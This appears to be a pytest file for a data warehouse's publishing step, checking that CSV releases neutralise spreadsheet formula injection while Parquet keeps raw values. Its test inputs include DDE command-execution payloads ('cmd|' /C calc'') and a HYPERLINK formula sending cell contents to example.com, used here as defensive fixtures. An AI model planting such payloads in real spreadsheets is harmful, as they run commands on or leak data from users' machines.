"""Released CSV files never carry a formula a spreadsheet would run; Parquet keeps the raw value."""

import os
import subprocess
import sys
from pathlib import Path

import duckdb
import polars as pl
import pytest

from warehouse.publish import list_releases, publish_snapshot
from warehouse.spreadsheet_safety import spreadsheet_safe, spreadsheet_safe_sql

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "+86 10 12345",
    "+2.93个百分点",
    "@SUM(A1:A2)",
    "-A1",
    "-2+3+cmd|' /C calc'!A0",
    "-0.8个百分点",
    "-",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["-1.5", "-3", "-.5", "-2e5", "1.5", "全国", "a=b", "", " =1", "29697万人"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_duckdb_applies_the_same_rule():
    with duckdb.connect() as con:
        con.execute("create table t (v varchar)")
        con.executemany("insert into t values (?)", [[v] for v in DANGEROUS + HARMLESS + [None]])
        rows = con.execute(f"select v, {spreadsheet_safe_sql('v')} from t").fetchall()
    assert rows[-1] == (None, None)
    assert all(safe == spreadsheet_safe(raw) for raw, safe in rows[:-1])


def release_files(home: Path, mart: str) -> tuple[pl.DataFrame, pl.DataFrame]:
    version = list_releases(home / "releases")[-1]["version"]
    data = home / "releases" / version / "data"
    csv = pl.read_csv(data / f"{mart}.csv", infer_schema=False)
    return csv, pl.read_parquet(data / f"{mart}.parquet")


def test_the_built_release_quotes_a_figure_written_with_a_plus(built_home):
    csv, parquet = release_files(built_home, "indicator_series")
    assert "+2.93个百分点" in set(parquet.get_column("value_as_written"))
    assert "'+2.93个百分点" in set(csv.get_column("value_as_written"))
    assert not csv.filter(pl.col("value_as_written").str.contains(r"^[=+@\t\r]")).height


def test_a_release_neutralises_every_dangerous_cell_and_keeps_numbers(home_copy):
    build = home_copy / "build" / "govmetrics.duckdb"
    with duckdb.connect(str(build)) as con:
        con.execute(
            "create table marts.zz_injection as select * from (values "
            + ", ".join(f"({i}, ?, -1.5 - {i}, '-1.5')" for i in range(len(DANGEROUS)))
            + ") t(id, text, number, negative_text)",
            DANGEROUS,
        )
        con.execute(
            "update marts.sources set title = '@SUM(1+1)*cmd|'' /C calc''!A0'"
            " where source_id = (select min(source_id) from marts.sources)"
        )
    publish_snapshot(build, home_copy / "published" / "govmetrics.duckdb", home_copy / "releases")
    csv, parquet = release_files(home_copy, "zz_injection")
    assert csv.get_column("text").to_list() == ["'" + v for v in DANGEROUS]
    assert parquet.get_column("text").to_list() == DANGEROUS
    assert csv.get_column("negative_text").to_list() == ["-1.5"] * len(DANGEROUS)
    assert csv.get_column("number").to_list() == [str(-1.5 - i) for i in range(len(DANGEROUS))]
    assert parquet.get_column("number").to_list() == [-1.5 - i for i in range(len(DANGEROUS))]
    sources_csv, sources_parquet = release_files(home_copy, "sources")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in set(sources_csv.get_column("title"))
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in set(sources_parquet.get_column("title"))
    # The snapshot keeps the raw value too.
    with duckdb.connect(str(home_copy / "published" / "govmetrics.duckdb"), read_only=True) as con:
        assert con.execute("select list(text order by id) from marts.zz_injection").fetchone() == (
            DANGEROUS,
        )


def test_sql_format_csv_applies_the_same_rule(built_home):
    result = subprocess.run(
        [
            Path(sys.executable).parent / "govmetrics",
            "sql",
            "select '=1+1' as a, -1.5 as b, '-1.5' as c, '-x' as d, '全国' as e",
            "--format",
            "csv",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "GOVMETRICS_HOME": str(built_home)},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == "a,b,c,d,e\n'=1+1,-1.5,-1.5,'-x,全国\n"
